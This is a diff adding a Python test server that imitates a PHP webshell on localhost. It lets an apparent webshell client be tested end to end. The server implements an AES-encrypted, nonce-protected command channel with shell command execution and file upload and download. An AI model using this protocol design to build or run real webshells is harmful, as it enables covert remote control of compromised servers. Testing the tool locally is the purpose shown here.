@@ -0,0 +1,320 @@
+from Crypto.Cipher import AES
+from base64 import b64encode, b64decode
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from typing import Any
+
+import binascii
+import json
+import os
+import secrets
+import struct
+import subprocess
+import threading
+import time
+import zlib
+
+################################################################################
+#                                                                              #
+# Local stand-in for the PHP webshell. It speaks the same protocol expected by #
+# HTTPService so that the client can be tested end to end without a network   #
+#                                                                              #
+################################################################################
+
+class WebshellServer:
+    # Class constants -> binary protocol framing, mirroring HTTPService
+    BINARY_MAGIC = b'WSB1'
+    FRAME_HEADER = struct.Struct('>4sB16s')
+    PLAINTEXT_HEADER = struct.Struct('>I')
+    CODEC_IDS = { 'zlib': 1 }
+    COMPRESSION_THRESHOLD = 1024
+
+    def __init__(
+        self,
+        root: str,
+        key: bytes = secrets.token_bytes(32),
+        nonce: str = binascii.hexlify(secrets.token_bytes(16)).decode(),
+        latency: float = 0,
+        bandwidth: float | None = None,
+        ranges: bool = True,
+        compression: bool = True,
+        batch: bool = True,
+        window: bool = True,
+        resync: bool = True,
+        chunked_upload: bool = True
+    ) -> None:
+        # Protocol state
+        self.root = root
+        self.key = key
+        self.nonce = nonce
+        self.initial_nonce = nonce
+        self.valid_nonces = { nonce }
+        self.__lock = threading.Lock()
+
+        # Simulated link and supported features
+        self.latency = latency
+        self.bandwidth = bandwidth
+        self.ranges = ranges
+        self.compression = compression
+        self.batch = batch
+        self.window = window
+        self.resync = resync
+        self.chunked_upload = chunked_upload
+        self.in_flight = 0
+        self.max_in_flight = 0
+
+        # Number of upcoming responses to lose after running the request, as if the connection failed
+        self.drop_responses = 0
+
+        # Log of the decrypted requests, for assertions
+        self.requests: list[dict[str, Any]] = []
+        self.__server = None
+        self.__thread = None
+
+    @property
+    def url(self) -> str:
+        host, port = self.__server.server_address[:2]
+        return f'http://{host}:{port}/webshell.php'
+
+    def start(self) -> 'WebshellServer':
+        # Listen on a random local port on a background thread
+        self.__server = ThreadingHTTPServer(('127.0.0.1', 0), self.__create_handler())
+        self.__thread = threading.Thread(target = self.__server.serve_forever, args = (0.05,), daemon = True)
+        self.__thread.start()
+        return self
+
+    def stop(self) -> None:
+        self.__server.shutdown()
+        self.__server.server_close()
+        self.__thread.join()
+
+    def handle(self, body: bytes, content_type: str) -> tuple[int, bytes, str]:
+        # Simulate the round trip time
+        if self.latency > 0:
+            time.sleep(self.latency)
+
+        # Decode the request using the protocol it was sent with
+        binary = content_type.startswith('application/octet-stream')
+        request = self.__decode_binary_request(body) if binary else self.__decode_json_request(body)
+
+        # Check the nonce and replace it. Clients requesting a window get enough nonces to have that
+        # many requests in flight
+        with self.__lock:
+            self.requests.append(request)
+            if request.get('action') == 'resync' and self.resync:
+                return self.__resync(request, binary)
+            if request.get('nonce') not in self.valid_nonces:
+                return 403, b'', 'text/plain'
+            self.valid_nonces.remove(request['nonce'])
+            window = request.get('window', 1) if self.window else 1
+            nonces = [ self.__new_nonce() for _ in range(max(window - len(self.valid_nonces), 1)) ]
+            self.nonce = nonces[0]
+            self.in_flight += 1
+            self.max_in_flight = max(self.max_in_flight, self.in_flight)
+
+        # Run the action
+        try:
+            response, payload = self.__run_action(request, binary)
+        finally:
+            with self.__lock:
+                self.in_flight -= 1
+        response['nonce'] = nonces[0]
+        if len(nonces) > 1:
+            response['nonces'] = nonces[1:]
+        if self.window and 'id' in request:
+            response['id'] = request['id']
+        response['capabilities'] = self.__capabilities()
+        return self.__encode_response(request, response, payload, binary)
+
+    def throttle(self, size: int) -> None:
+        # Simulate the time needed to transfer the given amount of bytes
+        if self.bandwidth is not None:
+            time.sleep(size / self.bandwidth)
+
+    def drop_response(self) -> bool:
+        with self.__lock:
+            if self.drop_responses == 0:
+                return False
+            self.drop_responses -= 1
+            return True
+
+    def __resync(self, request: dict[str, Any], binary: bool) -> tuple[int, bytes, str]:
+        # Forget every issued nonce and hand out new ones
+        self.valid_nonces.clear()
+        window = request.get('window', 1) if self.window else 1
+        nonces = [ self.__new_nonce() for _ in range(window) ]
+        self.nonce = nonces[0]
+
+        response = { 'nonce': nonces[0], 'capabilities': self.__capabilities() }
+        if len(nonces) > 1:
+            response['nonces'] = nonces[1:]
+        return self.__encode_response(request, response, b'', binary)
+
+    def __capabilities(self) -> list[str]:
+        capabilities = { 'batch': self.batch, 'chunked_upload': self.chunked_upload }
+        return [ capability for capability, supported in capabilities.items() if supported ]
+
+    def __encode_response(
+        self,
+        request: dict[str, Any],
+        response: dict[str, Any],
+        payload: bytes,
+        binary: bool
+    ) -> tuple[int, bytes, str]:
+        # Accept the first offered codec the server supports
+        codec = None
+        if self.compression and 'zlib' in request.get('compression', []):
+            response['compression'] = 'zlib'
+            codec = 'zlib'
+
+        # Encode the response
+        if binary:
+            return 200, self.__encode_binary_response(response, payload, codec), 'application/octet-stream'
+        return 200, self.__encode_json_response(response, codec), 'application/json'
+
+    def __new_nonce(self) -> str:
+        nonce = binascii.hexlify(secrets.token_bytes(16)).decode()
+        self.valid_nonces.add(nonce)
+        return nonce
+
+    def __run_action(self, request: dict[str, Any], binary: bool) -> tuple[dict[str, Any], bytes]:
+        action = request.get('action')
+        args = request.get('args', {})
+        if action == 'execute_command':
+            return { 'output': self.__execute_command(args['cmd']) }, b''
+        elif action == 'execute_batch' and self.batch:
+            return { 'outputs': [ self.__execute_command(cmd) for cmd in args['cmds'] ] }, b''
+        elif action == 'upload_file':
+            self.__upload_file(args)
+            return { 'output': '' }, b''
+        elif action == 'download_file':
+            return self.__download_file(args, binary)
+        return { 'output': f'Unsupported action: {action}' }, b''
+
+    def __execute_command(self, cmd: str) -> str:
+        result = subprocess.run(cmd, shell = True, cwd = self.root, capture_output = True)
+        return (result.stdout + result.stderr).decode(errors = 'replace')
+
+    def __upload_file(self, args: dict[str, Any]) -> None:
+        # Raw content is moved out of the arguments by the binary protocol
+        content = args.get('content', b'')
+        content = content if isinstance(content, bytes) else b64decode(content)
+
+        # Write the chunk at its offset, truncating the file on the first one. Shells without chunk
+        # support write every request as the whole file
+        path = self.__resolve(args['filename'])
+        if not self.chunked_upload:
+            args = { 'filename': args['filename'] }
+        with open(path, 'r+b' if args.get('append', False) else 'wb') as f:
+            f.seek(args.get('offset', 0))
+            f.write(content)
+
+    def __download_file(self, args: dict[str, Any], binary: bool) -> tuple[dict[str, Any], bytes]:
+        # Read the requested range, or the whole file if ranges are not supported
+        path = self.__resolve(args['filename'])
+        response = {}
+        with open(path, 'rb') as f:
+            if self.ranges and 'offset' in args:
+                f.seek(args['offset'])
+                content = f.read(args['length'])
+                response['eof'] = f.tell() >= os.path.getsize(path)
+            else:
+                content = f.read()
+
+        # Binary responses carry the raw content as the payload
+        if binary:
+            return response, content
+        response['output'] = b64encode(content).decode()
+        return response, b''
+
+    def __resolve(self, filename: str) -> str:
+        return os.path.join(self.root, filename.lstrip('/'))
+
+    def __decode_json_request(self, body: bytes) -> dict[str, Any]:
+        outer = json.loads(body)
+        plaintext = self.__decrypt(b64decode(outer['body']), b64decode(outer['iv']))
+        if 'compression' in outer:
+            plaintext = zlib.decompress(plaintext)
+        return json.loads(plaintext)
+
+    def __decode_binary_request(self, body: bytes) -> dict[str, Any]:
+        # Check the frame and decrypt it
+        magic, codec_id, iv = self.FRAME_HEADER.unpack_from(body)
+        if magic != self.BINARY_MAGIC:
+            raise ValueError('Invalid frame')
+        plaintext = self.__decrypt(body[self.FRAME_HEADER.size:], iv)
+        if codec_id != 0:
+            plaintext = zlib.decompress(plaintext)
+
+        # Split the header and the raw content
+        header_end = self.PLAINTEXT_HEADER.size + self.PLAINTEXT_HEADER.unpack_from(plaintext)[0]
+        request = json.loads(plaintext[self.PLAINTEXT_HEADER.size:header_end])
+        if header_end < len(plaintext):
+            request['args']['content'] = plaintext[header_end:]
+        return request
+
+    def __encode_json_response(self, response: dict[str, Any], codec: str | None) -> bytes:
+        plaintext = json.dumps(response).encode()
+        outer = {}
+        if codec is not None and len(plaintext) >= self.COMPRESSION_THRESHOLD:
+            plaintext = zlib.compress(plaintext)
+            outer['compression'] = codec
+
+        # The body goes last, so that clients can process it as it arrives
+        iv, cyphertext = self.__encrypt(plaintext)
+        outer['iv'] = b64encode(iv).decode()
+        outer['body'] = b64encode(cyphertext).decode()
+        return json.dumps(outer).encode()
+
+    def __encode_binary_response(self, response: dict[str, Any], payload: bytes, codec: str | None) -> bytes:
+        header = json.dumps(response).encode()
+        plaintext = self.PLAINTEXT_HEADER.pack(len(header)) + header + payload
+        codec_id = 0
+        if codec is not None and len(plaintext) >= self.COMPRESSION_THRESHOLD:
+            plaintext = zlib.compress(plaintext)
+            codec_id = self.CODEC_IDS[codec]
+
+        iv, cyphertext = self.__encrypt(plaintext)
+        return self.FRAME_HEADER.pack(self.BINARY_MAGIC, codec_id, iv) + cyphertext
+
+    def __encrypt(self, plaintext: bytes) -> tuple[bytes, bytes]:
+        iv = secrets.token_bytes(16)
+        padding = 16 - len(plaintext) % 16
+        return iv, AES.new(self.key, AES.MODE_CBC, iv).encrypt(plaintext + bytes([padding]) * padding)
+
+    def __decrypt(self, cyphertext: bytes, iv: bytes) -> bytes:
+        plaintext = AES.new(self.key, AES.MODE_CBC, iv).decrypt(cyphertext)
+        return plaintext[:-plaintext[-1]]
+
+    def __create_handler(self) -> type[BaseHTTPRequestHandler]:
+        server = self
+
+        class Handler(BaseHTTPRequestHandler):
+            # Keep connections alive, like the pooled session expects
+            protocol_version = 'HTTP/1.1'
+
+            def do_POST(self) -> None:
+                # Read the request body and let the server process it
+                body = self.rfile.read(int(self.headers.get('Content-Length', 0)))
+                server.throttle(len(body))
+                try:
+                    status, response, content_type = server.handle(body, self.headers.get('Content-Type', ''))
+                except Exception:
+                    status, response, content_type = 500, b'', 'text/plain'
+
+                # Lose the response, closing the connection
+                if server.drop_response():
+                    self.close_connection = True
+                    return
+
+                # Send the response
+                server.throttle(len(response))
+                self.send_response(status)
+                self.send_header('Content-Type', content_type)
+                self.send_header('Content-Length', str(len(response)))
+                self.end_headers()
+                self.wfile.write(response)
+
+            def log_message(self, format: str, *args: Any) -> None:
+                pass
+
+        return Handler